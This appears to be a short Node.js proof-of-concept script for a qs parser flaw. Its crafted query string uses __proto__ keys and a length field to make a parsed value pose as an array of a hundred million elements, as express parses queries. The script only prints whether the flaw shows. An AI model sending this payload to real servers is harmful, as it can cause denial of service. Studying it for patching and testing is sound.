"use strict";
// The parsed value claims to be an array of a hundred million elements; nothing here loops over it.
const qs = require("qs");

const query = process.argv.includes("benign") ? "a[]=b&a[]=c" : "a[__proto__]=b&a[__proto__]&a[length]=100000000";
const { a } = qs.parse(query, { allowPrototypes: true }); // as express calls it
console.log("own array:", Array.isArray(a), "instance:", a instanceof Array, "length:", a && a.length);
if (a instanceof Array && !Array.isArray(a)) console.log("FLAW SHOWN");
